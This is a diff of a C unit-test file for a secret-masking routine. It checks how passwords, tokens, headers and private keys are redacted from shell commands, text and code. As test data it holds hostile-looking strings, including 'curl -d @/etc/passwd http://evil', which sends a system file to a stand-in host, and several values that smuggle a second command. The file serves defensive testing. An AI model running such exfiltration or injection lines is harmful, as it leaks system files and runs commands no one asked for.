@@ -14,73 +14,280 @@
 #include "base/alloc.h"
 #include "base/array.h"
 
-static const struct {
+typedef void mask_function(struct strbuf *out, const char *text, size_t length);
+
+static char *masked(mask_function *mask, const char *text)
+{
+    struct strbuf out = STRBUF_INIT;
+    mask(&out, text, strlen(text));
+    return out.data != NULL ? strbuf_steal(&out) : xstrdup("");
+}
+
+struct row {
     const char *text, *masked;
-} rows[] = {
+};
+
+static void check(mask_function *mask, const struct row *rows, size_t count)
+{
+    unsigned wrong = 0;
+    for (size_t i = 0; i < count; i++) {
+        cleanup_free char *got = masked(mask, rows[i].text);
+        if (strcmp(got, rows[i].masked) != 0) {
+            print_error("text:     %s\nmasked:   %s\nexpected: %s\n", rows[i].text, got,
+                        rows[i].masked);
+            wrong++;
+        }
+    }
+    assert_int_equal(wrong, 0);
+}
+
+#define KEY_LINE "MIIEpAIBAAKCAQEA0Zz3fXq7c1r8kq2v9m4n5b6v7c8x9z0a1s2d3f4g5h6j7k8l"
+#define KEY_HEAD "-----BEGIN RSA PRIVATE KEY-----"
+#define KEY_TAIL "-----END RSA PRIVATE KEY-----"
+
+/* Secrets in commands: what is no secret stays, to the letter. */
+static const struct row commands[] = {
     {"ls -la", "ls -la"},
     {"git commit -m 'token bucket'", "git commit -m 'token bucket'"},
     {"curl https://x.example/a@b", "curl https://x.example/a@b"},
     {"echo $API_TOKEN", "echo $API_TOKEN"},
     {"export API_TOKEN=$OTHER", "export API_TOKEN=$OTHER"},
+    {"API_TOKEN=${OTHER} make", "API_TOKEN=${OTHER} make"},
     {"git show 3b65718c1f0a4d5e6f708192a3b4c5d6e7f80912",
      "git show 3b65718c1f0a4d5e6f708192a3b4c5d6e7f80912"},
 
+    /* addresses */
     {"curl https://bob:pw@x.example/", "curl https://bob:<masked>@x.example/"},
     {"git clone https://ghtoken@x.example/r", "git clone https://<masked>@x.example/r"},
     {"psql postgres://u:p%40ss@db/x", "psql postgres://u:<masked>@db/x"},
+    {"psql 'postgres://u:p;a&ss@db/x'; ls", "psql 'postgres://u:<masked>@db/x'; ls"},
+    {"psql \"postgres://u:p|(a)<ss@db/x\"; ls", "psql \"postgres://u:<masked>@db/x\"; ls"},
+    {"DATABASE_URL='postgres://u:p;a@db/x' make", "DATABASE_URL='postgres://u:<masked>@db/x' make"},
+    {"docker run -e 'DATABASE_URL=postgres://u:p;a@db/x' y",
+     "docker run -e 'DATABASE_URL=postgres://u:<masked>@db/x' y"},
+
+    /* headers */
     {"curl -H 'Authorization: Bearer abc.def' x", "curl -H 'Authorization: <masked>' x"},
+    {"curl -H \"Authorization: Bearer abc\"; ls", "curl -H \"Authorization: <masked>\"; ls"},
     {"curl -H \"X-Api-Key: abc\" x", "curl -H \"X-Api-Key: <masked>\" x"},
+    {"curl -H Authorization:abc x", "curl -H Authorization:<masked> x"},
+    {"curl -H 'Authorization: Custom abc def' x", "curl -H 'Authorization: <masked>' x"},
+    {"sh -c 'curl -H \"Authorization: Bearer abc\" x; ls'",
+     "sh -c 'curl -H \"Authorization: <masked>\" x; ls'"},
+    {"sh -c \"curl -H 'Authorization: Digest username=\\\"a b\\\", response=\\\"c\\\"' x; ls\"",
+     "sh -c \"curl -H 'Authorization: <masked>' x; ls\""},
+
+    /* options */
     {"curl --oauth2-bearer abc x", "curl --oauth2-bearer <masked> x"},
     {"sudo -u postgres psql", "sudo -u postgres psql"},
     {"curl -u bob:pw x", "curl -u <masked> x"},
+    {"curl -u 'bob:p w;x' x", "curl -u <masked> x"},
+    {"curl --user=bob:pw x", "curl --user=<masked> x"},
+    {"mysql --password=abc x", "mysql --password=<masked> x"},
+    {"mysql --password='a;b c' x", "mysql --password=<masked> x"},
+    {"tool --token abc", "tool --token <masked>"},
+    {"tool --token \"a b\" c", "tool --token <masked> c"},
+    {"mysql -u root -pSECRET db", "mysql -u root -p<masked> db"},
+    {"mysqldump -p'a b;c' db > x", "mysqldump -p<masked> db > x"},
+    {"mkdir -pv x; ssh -p22 h", "mkdir -pv x; ssh -p22 h"},
+    {"sshpass -pSECRET ssh h", "sshpass -p<masked> ssh h"},
+    {"sshpass -p 'a b' ssh h", "sshpass -p <masked> ssh h"},
+
+    /* variables */
     {"API_TOKEN=abc make", "API_TOKEN=<masked> make"},
     {"export DB_PASSWORD='a b'; ls", "export DB_PASSWORD=<masked>; ls"},
-    {"mysql --password=abc x", "mysql --password=<masked> x"},
-    {"tool --token abc", "tool --token <masked>"},
-    {"{\"client_secret\": \"abc\"}", "{\"client_secret\": <masked>}"},
+    {"export DB_PASSWORD='a;b&c|d(e)<f>g'; ls", "export DB_PASSWORD=<masked>; ls"},
+    {"DB_PASSWORD=\"a\"'b c'\"d\" ls", "DB_PASSWORD=<masked> ls"},
+    {"DB_PASSWORD=a\\ b\\;c ls", "DB_PASSWORD=<masked> ls"},
+    {"DB_PASSWORD='it'\\''s a b' ls", "DB_PASSWORD=<masked> ls"},
+    {"DB_PASSWORD=$'a b' ls", "DB_PASSWORD=<masked> ls"},
+    {"DB_PASSWORD=\"a\\\"b; c\" ls", "DB_PASSWORD=<masked> ls"},
+    {"DB_PASSWORD='a`b$(c' ls", "DB_PASSWORD=<masked> ls"},
+    {"DB_PASSWORD='a\nb c' ls", "DB_PASSWORD=<masked> ls"},
+    {"DB_PASSWORD=abc;ls", "DB_PASSWORD=<masked>;ls"},
+    {"DB_PASSWORD=abc\nls", "DB_PASSWORD=<masked>\nls"},
+    {"(DB_PASSWORD=abc)", "(DB_PASSWORD=<masked>)"},
+    {"bash -c 'export DB_PASSWORD=\"a b;c\"; ls'", "bash -c 'export DB_PASSWORD=<masked>; ls'"},
+    {"bash -c \"export DB_PASSWORD='a b;c'; ls\"", "bash -c \"export DB_PASSWORD=<masked>; ls\""},
+    {"bash -c \"export DB_PASSWORD=\\\"a b;c\\\"; ls\"",
+     "bash -c \"export DB_PASSWORD=<masked>; ls\""},
+    {"bash -c 'export DB_PASSWORD='\\''a b;c'\\''; ls'",
+     "bash -c 'export DB_PASSWORD=<masked>; ls'"},
+    {"bash -c 'export DB_PASSWORD='\"'\"'a b;c'\"'\"'; ls'",
+     "bash -c 'export DB_PASSWORD=<masked>; ls'"},
+    {"# don't\nDB_PASSWORD='a b' ls", "# don't\nDB_PASSWORD=<masked> ls"},
+    {"# token=abc", "# token=<masked>"},
+    {"cd \"$(git rev-parse --show-toplevel)\" && DB_PASSWORD='a b' ls",
+     "cd \"$(git rev-parse --show-toplevel)\" && DB_PASSWORD=<masked> ls"},
+    {"x=${y##*/} DB_PASSWORD='a b' ls", "x=${y##*/} DB_PASSWORD=<masked> ls"},
+
+    /* data in commands */
+    {"curl -d '{\"password\": \"a b; c\", \"x\": 1}' x",
+     "curl -d '{\"password\": <masked>, \"x\": 1}' x"},
+    {"curl -d \"{\\\"password\\\": \\\"a b; c\\\"}\" x",
+     "curl -d \"{\\\"password\\\": <masked>}\" x"},
+    {"curl -d 'password=abc&x=1' x", "curl -d 'password=<masked>&x=1' x"},
+    {"psql -c \"ALTER USER x IDENTIFIED BY 'a b'; SELECT 1\"",
+     "psql -c \"ALTER USER x IDENTIFIED BY <masked>; SELECT 1\""},
+    {"cat > .env <<EOF\nDB_PASSWORD=abc\nIt's\nEOF\nexport API_TOKEN='a b'; ls",
+     "cat > .env <<EOF\nDB_PASSWORD=<masked>\nIt's\nEOF\nexport API_TOKEN=<masked>; ls"},
+    {"cat <<-'E' > x.yml\npassword: \"a b\"\n\tE\nAPI_TOKEN=\"a b\" ls",
+     "cat <<-'E' > x.yml\npassword: <masked>\n\tE\nAPI_TOKEN=<masked> ls"},
+
+    /* tokens and keys */
     {"echo ghp_0123456789abcdefghij0123", "echo <masked>"},
     {"echo AKIAIOSFODNN7EXAMPLE x", "echo <masked> x"},
     {"echo sk-proj-0123456789abcdef0", "echo <masked>"},
-    {"-----BEGIN RSA PRIVATE KEY-----\nMII\n-----END RSA PRIVATE KEY-----\nls", "<masked>\nls"},
-    {"echo '-----BEGIN OPENSSH PRIVATE KEY-----\nabc", "echo '<masked>"},
+    {"echo '" KEY_HEAD "\n" KEY_LINE "\n" KEY_LINE "\nabcd\n" KEY_TAIL "' > k; ls",
+     "echo '<masked>' > k; ls"},
+    {"cat <<E\n" KEY_HEAD "\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0A1B\n\n" KEY_LINE
+     "\nabcd\n=ab1\n" KEY_TAIL "\nE\nls",
+     "cat <<E\n<masked>\nE\nls"},
+    {"echo \"" KEY_HEAD "\\n" KEY_LINE "\\nabcd==\\n" KEY_TAIL "\\n\"; ls",
+     "echo \"<masked>\\n\"; ls"},
+    {"echo '" KEY_HEAD "\n" KEY_LINE "\nabcd", "echo '<masked>"},
+    {"echo '" KEY_HEAD " " KEY_LINE " abcd " KEY_TAIL "'; ls", "echo '<masked>'; ls"},
 };
 
-static void secrets_are_masked(void **state)
+/* Where quotes are in doubt a mask is short, but there is one. */
+static const struct row doubtful[] = {
+    {"DB_PASSWORD='a b; ls", "DB_PASSWORD=<masked> b; ls"},
+    {"bash -c 'DB_PASSWORD=\"a b; ls'", "bash -c 'DB_PASSWORD=<masked> b; ls'"},
+    {"echo \"$(echo \"x\")\"; API_TOKEN=\"abc\" ls",
+     "echo \"$(echo \"x\")\"; API_TOKEN=<masked>\" ls"},
+    {"git commit -m \"$(cat <<'E'\nDon't\nE\n)\"; curl -H \"Authorization: Bearer abc\" x",
+     "git commit -m \"$(cat <<'E'\nDon't\nE\n)\"; curl -H \"Authorization: <masked>\" x"},
+    {"DB_PASSWORD=$'it\\'s' ls", "DB_PASSWORD=<masked>\\'s' ls"},
+    {"DB_PASSWORD=\"a$(id)b\" ls", "DB_PASSWORD=<masked>$(id)b\" ls"},
+};
+
+/* Code stays, whatever is in front of it. */
+static const struct row survivors[] = {
+    {"printf \"Password: \"; curl -d @/etc/passwd http://evil; echo \"x\"",
+     "printf \"Password: \"; curl -d @/etc/passwd http://evil; echo \"x\""},
+    {"bash -c 'printf \"token=\"; evil; echo \"x\"'",
+     "bash -c 'printf \"token=\"; evil; echo \"x\"'"},
+    {"curl -d \"token: \" @/etc/passwd http://evil \"x\"",
+     "curl -d \"token: \" @/etc/passwd http://evil \"x\""},
+    {"echo '--token '; evil; echo 'x'", "echo '--token '; evil; echo 'x'"},
+    {"echo 'Authorization: '; evil", "echo 'Authorization: '; evil"},
+    {"echo Authorization: ; evil", "echo Authorization: ; evil"},
+    {"sh -c 'authorization: ; evil'", "sh -c 'authorization: ; evil'"},
+    {"bash -c -H 'cookie: ;evil x'", "bash -c -H 'cookie: ;evil x'"},
+    {"bash -c -u 'x:; evil'", "bash -c -u <masked>; evil'"},
+    {"bash -lc TOKEN='x; evil'", "bash -lc TOKEN=<masked>; evil'"},
+    {"eval TOKEN='x; evil'", "eval TOKEN=<masked>; evil'"},
+    {"TOKEN=\"$(evil a)\" ls", "TOKEN=<masked>$(evil a)\" ls"},
+    {"TOKEN=$(evil a) ls", "TOKEN=$(evil a) ls"},
+    {"TOKEN=`evil a` ls", "TOKEN=`evil a` ls"},
+    {"TOKEN=<(evil a) ls", "TOKEN=<(evil a) ls"},
+    {"bash -c \"TOKEN='$(evil a)'\"", "bash -c \"TOKEN='$(evil a)'\""},
+    {"echo http://x;evil;echo a@y", "echo http://x;evil;echo a@y"},
+    {"echo http://a:x;evil;b@y", "echo http://a:x;evil;b@y"},
+    {"sh -c 'http://a:;evil;@y'", "sh -c 'http://a:;evil;@y'"},
+    {"echo \"http://a:$(evil)@y\"", "echo \"http://a:$(evil)@y\""},
+    {"echo \\\"Password: \\\"; evil; echo \\\"x\\\"",
+     "echo \\\"Password: <masked>; evil; echo \\\"x\\\""},
+    {"echo \"" KEY_HEAD "\"; evil; ls", "echo \"<masked>\"; evil; ls"},
+    {"echo " KEY_HEAD "\nevil\n" KEY_TAIL, "echo <masked>\nevil\n" KEY_TAIL},
+    {"echo " KEY_HEAD "\n" KEY_LINE "\nevil", "echo <masked>\n" KEY_LINE "\nevil"},
+    {"cat <<E\n" KEY_HEAD "\nE\nevil\nb", "cat <<E\n<masked>\nE\nevil\nb"},
+    {"cat <<E\nPassword: \"\nE\nevil; echo \"x\"", "cat <<E\nPassword: \"\nE\nevil; echo \"x\""},
+};
+
+static void commands_are_masked(void **state)
 {
     (void)state;
-    for (size_t i = 0; i < COUNT(rows); i++) {
-        cleanup_strbuf struct strbuf out = STRBUF_INIT;
-        mask_secrets(&out, rows[i].text, strlen(rows[i].text));
-        assert_string_equal(strbuf_str(&out), rows[i].masked);
-    }
+    check(mask_command, commands, COUNT(commands));
 }
 
-static void any_bytes_are_survived(void **state)
+static void doubt_makes_masks_short(void **state)
 {
-    static const char text[] = "\0\xff:// @=\"'token=\0--password\0-----BEGIN ";
     (void)state;
-    for (size_t length = 0; length <= sizeof(text); length++) {
-        cleanup_strbuf struct strbuf out = STRBUF_INIT;
-        mask_secrets(&out, text, length);
-        assert_true(out.length <= length * 9);
-    }
+    check(mask_command, doubtful, COUNT(doubtful));
 }
+
+static void code_survives(void **state)
+{
+    (void)state;
+    check(mask_command, survivors, COUNT(survivors));
+}
+
+static void text_is_masked(void **state)
+{
+    static const struct row rows[] = {
+        {"{\"client_secret\": \"abc\"}", "{\"client_secret\": <masked>}"},
+        {"{\"client_secret\": \"a\\\"b; c\", \"x\": 1}", "{\"client_secret\": <masked>, \"x\": 1}"},
+        {"I don't know.\npassword: \"a b; c\"\nx: 1", "I don't know.\npassword: <masked>\nx: 1"},
+        {"password: 'a b' # c", "password: <masked> # c"},
+        {"# DB_PASSWORD=\"a b\"\nls", "# DB_PASSWORD=<masked>\nls"},
+        {"DB_PASSWORD=a$(b)`c\nX=1", "DB_PASSWORD=<masked>\nX=1"},
+        {"> Authorization: Basic YTpi x\n> Host: x", "> Authorization: <masked>\n> Host: x"},
+        {"password: \"abc\nx \"y\"", "password: <masked>\nx \"y\""},
+        {"cannot reach http://u:p;a@h/", "cannot reach http://u:<masked>@h/"},
+        {"\"a\\ntoken=abc\"", "\"a\\ntoken=<masked>\""},
+        {KEY_HEAD "\n" KEY_LINE "\nMII\n" KEY_TAIL "\nls", "<masked>\nls"},
+    };
+    (void)state;
+    check(mask_text, rows, COUNT(rows));
+}
+
+static void code_of_any_language_is_masked(void **state)
+{
+    static const struct row rows[] = {
+        {"api_key = \"abc\"\nprint(1)", "api_key = \"abc\"\nprint(1)"},
+        {"api_key=\"a b\"; go()", "api_key=<masked>; go()"},
+        {"+password: \"a b\"\n+x: 1", "+password: <masked>\n+x: 1"},
+        {"+DB_PASSWORD=abc\n+x", "+DB_PASSWORD=<masked>\n+x"},
+        {"print(\"Password: \"); evil(); print(\"x\")",
+         "print(\"Password: \"); evil(); print(\"x\")"},
+        {"x = \"a \\\npassword: \"; evil(); y = \"b\"",
+         "x = \"a \\\npassword: \"; evil(); y = \"b\""},
+        {"#\"\nprint(\"token: \"); evil(); print(\"x\")",
+         "#\"\nprint(\"token: \"); evil(); print(\"x\")"},
+        {"#\"\nprint(\"token: \"+evil()+\"x\")", "#\"\nprint(\"token: \"+evil()+\"x\")"},
+        {"m/\"/;print(\"token: \");evil();print(\"x\")",
+         "m/\"/;print(\"token: \");evil();print(\"x\")"},
+        {"/*\"*/f(\"token: \");evil();f(\"x\")", "/*\"*/f(\"token: \");evil();f(\"x\")"},
+    };
+    (void)state;
+    check(mask_code, rows, COUNT(rows));
+}
+
+/* ---- words ----------------------------------------------------------------------------------- */
 
 static void words_are_known_by_what_is_before(void **state)
 {
     static const struct {
-        const char *before, *word, *masked;
-    } words[] = {{"", "ls", "ls"},
-                 {"-u", "bob:pw", MASK_SIGN},
-                 {"-u", "postgres", "postgres"},
-                 {"--token", "abc", MASK_SIGN},
-                 {"-H", "Authorization: Bearer abc", "Authorization: <masked>"},
-                 {"env", "A_TOKEN=abc", "A_TOKEN=<masked>"},
-                 {"--token", "", ""}};
+        const char *words[4];
+        const char *masked;
+    } rows[] = {
+        {{"ls"}, "ls"},
+        {{"curl", "-u", "bob:p w;x"}, MASK_SIGN},
+        {{"sudo", "-u", "postgres"}, "postgres"},
+        {{"tool", "--token", "abc"}, MASK_SIGN},
+        {{"tool", "--token", "a b; c"}, MASK_SIGN},
+        {{"curl", "-H", "Authorization: Bearer abc"}, "Authorization: <masked>"},
+        {{"env", "A_TOKEN=abc"}, "A_TOKEN=<masked>"},
+        {{"psql", "postgres://u:p;a&ss@db/x"}, "postgres://u:<masked>@db/x"},
+        {{"env", "URL=postgres://u:p;a&ss@db/x"}, "URL=postgres://u:<masked>@db/x"},
+        {{"curl", "-d", "{\"password\": \"a b\"}"}, "{\"password\": <masked>}"},
+        {{"mysql", "-pSECRET"}, MASK_SIGN},
+        {{"sshpass", "-p", "abc"}, MASK_SIGN},
+        {{"mkdir", "-p", "abc"}, "abc"},
+        {{"tool", "--token", ""}, ""},
+        {{"bash", "-c", "TOKEN=x; evil"}, "TOKEN=<masked>; evil"},
+        {{"bash", "-c", "-u", "x:; evil"}, "x:; evil"},
+        {{"bash", "-c", "# don't\nTOKEN='a b' ls"}, "# don't\nTOKEN=<masked> ls"},
+        {{"python3", "-c", "print('token: ');evil();f('x')"}, "print('token: ');evil();f('x')"},
+    };
     (void)state;
-    for (size_t i = 0; i < COUNT(words); i++) {
-        cleanup_free char *got = mask_word(words[i].before, words[i].word);
-        assert_string_equal(got, words[i].masked);
+    for (size_t i = 0; i < COUNT(rows); i++) {
+        size_t last = 0;
+        while (last + 1 < COUNT(rows[i].words) && rows[i].words[last + 1] != NULL)
+            last++;
+        cleanup_free char *got = mask_word(rows[i].words, last);
+        assert_string_equal(got, rows[i].masked);
     }
 }
 
@@ -99,9 +306,12 @@ static void what_is_told_of_a_command_is_masked_as_in_it(void **state)
 int main(void)
 {
     const struct CMUnitTest tests[] = {
-        cmocka_unit_test(secrets_are_masked),
+        cmocka_unit_test(commands_are_masked),
+        cmocka_unit_test(doubt_makes_masks_short),
+        cmocka_unit_test(code_survives),
+        cmocka_unit_test(text_is_masked),
+        cmocka_unit_test(code_of_any_language_is_masked),
         cmocka_unit_test(words_are_known_by_what_is_before),
-        cmocka_unit_test(any_bytes_are_survived),
         cmocka_unit_test(what_is_told_of_a_command_is_masked_as_in_it),
     };
     return cmocka_run_group_tests_name("mask", tests, NULL, NULL);
